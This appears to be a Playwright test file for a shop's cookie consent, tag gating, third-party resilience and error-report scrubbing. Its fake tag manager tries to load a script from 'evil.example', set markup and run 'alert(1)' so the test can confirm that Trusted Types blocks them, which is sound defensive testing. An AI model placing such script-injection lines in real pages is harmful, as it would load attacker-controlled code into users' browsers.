import type { Page } from "@playwright/test";
import { alive } from "./support/alive.ts";
import { expectAccessible } from "./support/axe.ts";
import { findProduct } from "./support/products.ts";
import { expect, FOREIGN, PATIENCE, test as partyTest } from "./support/partyShop.ts";
import { test as shopTest } from "./support/shopTest.ts";
import { shiftsOf, watchShifts } from "./support/shifts.ts";
import { homeOf, wordsOf } from "./support/storefronts.ts";

const PURPOSES = ["analytics", "advertising", "services"];

/** Collects every URL outside of the shop's hosts that the page requests. */
function foreignRequests(page: Page): string[] {
  const asked: string[] = [];
  page.on("request", (request) => {
    const { hostname, href } = new URL(request.url());
    if (!hostname.endsWith("localhost") && !href.startsWith("data:")) asked.push(href);
  });
  return asked;
}

/** Fake tag manager: counts its runs, sets a cookie, and attempts what Trusted Types must block. */
const TAG = `
  window.tagRuns = (window.tagRuns ?? 0) + 1;
  document.cookie = "_ga=GA1.1.2; Path=/";
  const own = document.createElement("script");
  own.src = "https://www.googletagmanager.com/gtag/js?id=G-1";
  document.head.append(own);
  window.refused = [];
  for (const attempt of [
    () => { document.createElement("script").src = "https://evil.example/a.js"; },
    () => { document.createElement("div").innerHTML = "<b>x</b>"; },
    () => { document.createElement("script").text = "alert(1)"; },
  ]) { try { attempt(); } catch (error) { window.refused.push(error.name); } }
`;

async function serveTags(page: Page): Promise<void> {
  await page.route(`${FOREIGN.tags}/**`, (route) => {
    const body = route.request().url().includes("/gtm.js") ? TAG : "window.gtagRuns = (window.gtagRuns ?? 0) + 1";
    return route.fulfill({ contentType: "text/javascript", body });
  });
  await page.route(`${FOREIGN.pixel}/**`, (route) => route.fulfill({ contentType: "text/javascript", body: "" }));
  await page.route(`${FOREIGN.faults}/**`, (route) => route.fulfill({ status: 200, body: "{}" }));
}

/** Waits for an event in the data layer, also across page loads. */
const told = (page: Page, event: string): Promise<unknown> =>
  page.waitForFunction((name) => {
    const layer: unknown = Reflect.get(window, "dataLayer");
    const entries: unknown[] = Array.isArray(layer) ? layer : [];
    return entries.some((entry) => typeof entry === "object" && entry !== null && Reflect.get(entry, "event") === name);
  }, event);

/** Opens a page and waits for hydration, because earlier clicks are ignored or handled natively. */
async function openAlive(page: Page, path: string): Promise<void> {
  await page.goto(path);
  await alive(page);
}

async function someProduct(page: Page, origin: string) {
  const where = { origin, locale: "de_AT", countryId: 13 };
  return findProduct(
    page.request,
    where,
    ({ stock, PSE_COUNT, quantityCount }) => stock > 9 && PSE_COUNT === 1 && quantityCount === 1,
  );
}

partyTest(
  "before consent and after declining: no foreign host, no cookie beyond the necessary",
  async ({ browser, partyShop }) => {
    partyTest.slow();
    for (const [storefront, language, paths] of [
      ["at-de", "de", ["", "cart"]],
      ["ro-ro", "ro", ["products"]],
    ] as const) {
      const context = await browser.newContext();
      const page = await context.newPage();
      const t = wordsOf("consent", language);
      const asked = foreignRequests(page);
      const home = homeOf({ id: storefront }, partyShop);
      for (const path of paths) {
        await page.goto(new URL(path, home).href);
        await page.getByRole("contentinfo").scrollIntoViewIfNeeded();
        await page.waitForLoadState("networkidle");
      }
      expect(asked).toEqual([]);
      expect(await context.cookies()).toEqual([]);

      await page.getByRole("button", { name: t("decline") }).click();
      await expect(page.getByRole("region", { name: t("title") })).toBeHidden();
      await page.goto(home);
      await page.waitForLoadState("networkidle");
      expect(asked).toEqual([]);
      expect((await context.cookies()).map(({ name }) => name)).toEqual(["consent"]);
      await expect(page.getByRole("region", { name: t("title") })).toBeHidden();
      await context.close();
    }
  },
);

partyTest(
  "accepting starts the tags, which are told what happens, never on a private page; taking it back ends them",
  async ({ page, context, partyShop }) => {
    partyTest.slow();
    const t = wordsOf("consent", "de");
    const errors: string[] = [];
    page.on("pageerror", ({ message }) => errors.push(message));
    await serveTags(page);
    await openAlive(page, "/products");
    await page.getByRole("button", { name: t("accept") }).click();
    await told(page, "view_item_list");
    await page.waitForFunction(() => Reflect.get(window, "gtagRuns") === 1);
    expect(await page.evaluate(() => Reflect.get(window, "tagRuns"))).toBe(1);
    // Trusted Types block a foreign script, markup and code, but allow the tag's second script.
    expect(await page.evaluate(() => Reflect.get(window, "refused"))).toEqual(["TypeError", "TypeError", "TypeError"]);

    const product = await someProduct(page, partyShop);
    await page.goto(product.URL);
    await told(page, "view_item");
    await page
      .getByRole("button", { name: wordsOf("product", "de")("addToCart") })
      .first()
      .click();
    await told(page, "add_to_cart");

    await page.goto("/cart");
    await told(page, "view_cart");
    await page
      .getByRole("link", { name: wordsOf("cart", "de")("toCheckout") })
      .first()
      .click();
    // The checkout adds its step to the URL once the session is known.
    await expect(page).toHaveURL(/\/checkout(\?|$)/);
    // A new document without tags, whose policy blocks them.
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await page.waitForFunction(() => sessionStorage.getItem("trade_waiting")?.includes("begin_checkout"));
    expect(await page.evaluate(() => Reflect.get(window, "tagRuns"))).toBeUndefined();

    await page
      .getByRole("link", { name: /Lindenhaus/ })
      .first()
      .click();
    await told(page, "begin_checkout");

    await page.getByRole("link", { name: t("settings") }).click();
    await page.getByRole("button", { name: t("decline") }).click();
    // A new document without tags.
    await page.waitForFunction(() => Reflect.get(window, "tagRuns") === undefined);
    await expect.poll(async () => (await context.cookies()).map(({ name }) => name), PATIENCE).toEqual(["consent"]);
    expect(errors).toEqual([]);
  },
);

partyTest("third parties that are blocked, slow or send nonsense hold up nothing", async ({ page, partyShop }) => {
  partyTest.slow();
  const t = wordsOf("consent", "de");
  const [product, answer] = [await someProduct(page, partyShop), wordsOf("product", "de")];
  const waiting: Array<() => void> = [];
  await openAlive(page, "/consent");
  await page.getByRole("button", { name: t("accept") }).click();
  await expect(page.getByText(t("saved"))).toBeVisible();
  for (const way of ["blocked", "slow", "nonsense"] as const) {
    await page.unrouteAll({ behavior: "ignoreErrors" });
    for (const host of Object.values(FOREIGN)) {
      await page.route(`${host}/**`, async (route) => {
        if (way === "blocked") return route.abort();
        if (way === "slow") return new Promise<void>((done) => waiting.push(done));
        return route.fulfill({ contentType: "text/javascript", body: "<html>%%%{not(" });
      });
    }
    await page.goto(product.URL, { waitUntil: "domcontentloaded" });
    await page
      .getByRole("button", { name: answer("addToCart") })
      .first()
      .click();
    await expect(page.getByRole("status").filter({ hasText: answer("added") })).toBeVisible();
    await page.getByRole("region", { name: t("badge.title") }).scrollIntoViewIfNeeded();
    if (way !== "slow") await expect(page.getByText(t("badge.failed"))).toBeVisible();
    await page.goto("/cart", { waitUntil: "domcontentloaded" });
    await expect(page.getByRole("link", { name: wordsOf("cart", "de")("toCheckout") }).first()).toBeVisible();
  }
  for (const done of waiting) done();
});

partyTest(
  "badge and chat come by a click that says whom it asks, or by consent; a fault is reported without a word of the shopper",
  async ({ page }) => {
    const t = wordsOf("consent", "de");
    const reports: string[] = [];
    await page.route(`${FOREIGN.faults}/**`, (route) => {
      reports.push(route.request().postData() ?? "");
      return route.fulfill({ status: 200, body: "{}" });
    });
    const badge = { ratingvalue: 4.6, ratingcount: 212, criteria: [], seal_color: "gold" };
    await page.route(`${FOREIGN.reviews}/**`, (route) =>
      route.fulfill({ json: badge, headers: { "Access-Control-Allow-Origin": "*" } }),
    );
    await page.route(`${FOREIGN.chat}/**`, (route) =>
      route.fulfill({ contentType: "text/html", body: "<p>Hallo</p>" }),
    );
    const asked = foreignRequests(page);
    await openAlive(page, "/?email=anna%40example.com");
    await page.getByRole("button", { name: t("decline") }).click();
    await expect(page.getByRole("region", { name: t("title") })).toBeHidden();
    await expect(page.getByText(t("badge.loadHint").replace("{{host}}", "reviews.example"))).toBeVisible();
    await page.getByRole("button", { name: t("chat.open") }).click();
    await expect(page.getByText(t("chat.loadHint").replace("{{host}}", "chat.example"))).toBeVisible();
    await expect(page.getByText(t("chat.ai"))).toBeVisible();
    expect(asked).toEqual([]);
    await page.getByRole("button", { name: t("chat.load") }).click();
    await expect(page.frameLocator("iframe").getByText("Hallo")).toBeVisible();
    await page.getByRole("button", { name: t("chat.close") }).click();
    await page.getByRole("button", { name: t("badge.load") }).click();
    await expect(page.getByText("4,6", { exact: true })).toBeVisible();

    await page.evaluate(
      () =>
        void setTimeout(() => {
          throw new RangeError("for anna@example.com, eyJhbGciOiJIUzI1NiJ9.e30.abc");
        }),
    );
    await expect.poll(() => reports.join(), PATIENCE).toContain("RangeError");
    expect(reports.join()).not.toMatch(/anna|eyJ|replay_event|"type":"transaction"/);

    await openAlive(page, "/consent");
    await page.getByLabel(t("services.label"), { exact: true }).check();
    await page.getByRole("button", { name: t("save") }).click();
    await expect(page.getByText(t("saved"))).toBeVisible();
    await page.evaluate(() => sessionStorage.clear());
    asked.length = 0;
    await openAlive(page, "/");
    await page.getByRole("region", { name: t("badge.title") }).scrollIntoViewIfNeeded();
    await expect(page.getByText("4,6", { exact: true })).toBeVisible();
    await expect(page.getByRole("button", { name: t("badge.load") })).toHaveCount(0);
    await page.getByRole("button", { name: t("chat.open") }).click();
    await expect(page.frameLocator("iframe").getByText("Hallo")).toBeVisible();
    expect(asked.map((url) => new URL(url).origin)).toEqual([FOREIGN.reviews, FOREIGN.chat]);
  },
);

shopTest.describe("the question", () => {
  shopTest.use({ answered: false });

  shopTest("two answers of the same size; no page is covered, shifted or locked by it", async ({ page, baseURL }) => {
    shopTest.slow();
    const t = wordsOf("consent", "de");
    const banner = page.getByRole("region", { name: t("title") });
    await page.setViewportSize({ width: 320, height: 640 });
    await watchShifts(page);
    const product = await someProduct(page, homeOf({ id: "at-de" }, baseURL));
    await page.goto(product.URL);
    await expect(banner).toBeVisible();
    const sizes = await banner.getByRole("button").evaluateAll((buttons) =>
      buttons.slice(0, 2).map((button) => {
        const { width, height, top } = button.getBoundingClientRect();
        const { backgroundColor, color, fontSize } = getComputedStyle(button);
        return { width, height, top, backgroundColor, color, fontSize };
      }),
    );
    expect(sizes[0]).toEqual(sizes[1]);
    await expectAccessible(page);
    const name = wordsOf("product", "de")("addToCart");
    const buy = page.locator("main").getByRole("button", { name }).first();
    await buy.focus();
    await expect(buy).toBeInViewport({ ratio: 1 });
    const isFree = await buy.evaluate((button) => {
      const { left, top, width, height } = button.getBoundingClientRect();
      return document.elementFromPoint(left + width / 2, top + height / 2)?.closest("button") === button;
    });
    expect(isFree).toBe(true);
    await page.mouse.wheel(0, 1500);
    const bar = page.locator('.lh-buybar[data-state="shown"]');
    await expect(bar).toBeInViewport();
    const [above, below] = [await banner.boundingBox(), await bar.boundingBox()];
    expect((above?.y ?? 0) + (above?.height ?? 0)).toBeLessThanOrEqual(below?.y ?? 0);
    expect(await shiftsOf(page)).toEqual([]);

    for (const { id, code } of [
      { id: "privacy", code: "/datenschutz" },
      { id: "imprint", code: "/Impressum" },
    ]) {
      await page.goto(code);
      await expect(page.getByRole("heading", { level: 1 }), id).toBeVisible();
      await expect(banner, id).toBeHidden();
    }
    await page.goto("/cart");
    await banner.getByText(t("more")).click();
    for (const purpose of PURPOSES)
      await expect(banner.getByLabel(t(`${purpose}.label`), { exact: true })).not.toBeChecked();
    await banner.getByLabel(t("analytics.label"), { exact: true }).check();
    await banner.getByRole("button", { name: t("save") }).click();
    await expect(banner).toBeHidden();
    await expect(page.locator("#main")).toBeFocused();
    await page.getByRole("link", { name: t("settings") }).click();
    await expect(page.getByLabel(t("analytics.label"), { exact: true })).toBeChecked();
    await expect(page.getByLabel(t("advertising.label"), { exact: true })).not.toBeChecked();
    await expectAccessible(page);
  });
});

shopTest.describe("without JavaScript", () => {
  shopTest.use({ answered: false, javaScriptEnabled: false });

  shopTest("the question is answered, looked at and taken back by forms", async ({ page, context, baseURL }) => {
    const t = wordsOf("consent", "en");
    await page.goto(homeOf({ id: "de-en" }, baseURL));
    await page.getByRole("button", { name: t("accept") }).click();
    await expect(page.getByRole("region", { name: t("title") })).toBeHidden();
    await page.getByRole("link", { name: t("settings") }).click();
    await expect(page.getByLabel(t("advertising.label"), { exact: true })).toBeChecked();
    await page.getByLabel(t("advertising.label"), { exact: true }).uncheck();
    await page.getByRole("button", { name: t("save") }).click();
    await expect(page.getByLabel(t("advertising.label"), { exact: true })).not.toBeChecked();
    await expect(page.getByLabel(t("analytics.label"), { exact: true })).toBeChecked();
    await page.getByRole("button", { name: t("decline") }).click();
    const [cookie] = await context.cookies();
    expect(cookie?.value).toMatch(/^1\.\d+$/);
    const days = ((cookie?.expires ?? 0) - Date.now() / 1000) / 86_400;
    expect(Math.round(days)).toBe(150);
  });
});
